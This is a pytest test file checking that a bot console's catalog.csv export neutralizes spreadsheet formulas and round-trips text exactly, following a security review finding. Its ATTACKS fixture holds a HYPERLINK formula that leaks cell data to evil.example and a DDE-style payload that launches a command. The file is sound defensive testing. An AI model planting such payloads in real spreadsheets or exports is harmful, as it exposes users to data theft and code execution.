"""catalog.csv never hands a spreadsheet a formula, and reads back exactly what it wrote
(security review F-6: F01, F01b)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.console import spreadsheet
from tests.helpers.console import Staff, text_drafts, upload

KEY = "topic.given.1"
ATTACKS = {
    "en": '=HYPERLINK("http://evil.example/?leak="&D2,"Updated text: click")',
    "es": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def test_a_drafted_formula_is_exported_as_text_and_imported_unchanged(
    editor: Staff,
    redis_url: str,
    prefix: str,
) -> None:
    assert editor.post(f"/staff/snippet/{KEY}", dict(ATTACKS)).status_code == 200
    exported = editor.client.get("/staff/export/catalog.csv").content
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert all(not cell.startswith(FORMULA) for row in rows for cell in row)
    row = next(row for row in rows if row[0] == KEY)
    assert row[2] == "'" + ATTACKS["en"] and row[3] == "'" + ATTACKS["es"]

    page = upload(editor, "catalog.csv", exported)
    assert page.status_code == 200 and "nothing to change" in page.text
    drafts = text_drafts(redis_url, prefix)
    assert drafts[("en", KEY)]["value"] == ATTACKS["en"]
    assert drafts[("es", KEY)]["value"] == ATTACKS["es"]


@pytest.mark.parametrize("cell", ["=1+1", "'=1+1", "''@x", "-5", "\uff1dA1", "plain", "'plain"])
def test_neutralized_cells_read_back_exactly(cell: str) -> None:
    written = spreadsheet.neutralize(cell)
    assert not written.startswith(FORMULA)
    assert spreadsheet.restore(written) == cell


@given(st.text())
def test_any_text_survives_the_round_trip(cell: str) -> None:
    written = spreadsheet.neutralize(cell)
    assert not written.startswith(FORMULA)
    assert spreadsheet.restore(written) == cell


def test_a_spreadsheet_that_drops_the_mark_still_imports_the_text() -> None:
    assert spreadsheet.restore(ATTACKS["en"]) == ATTACKS["en"]
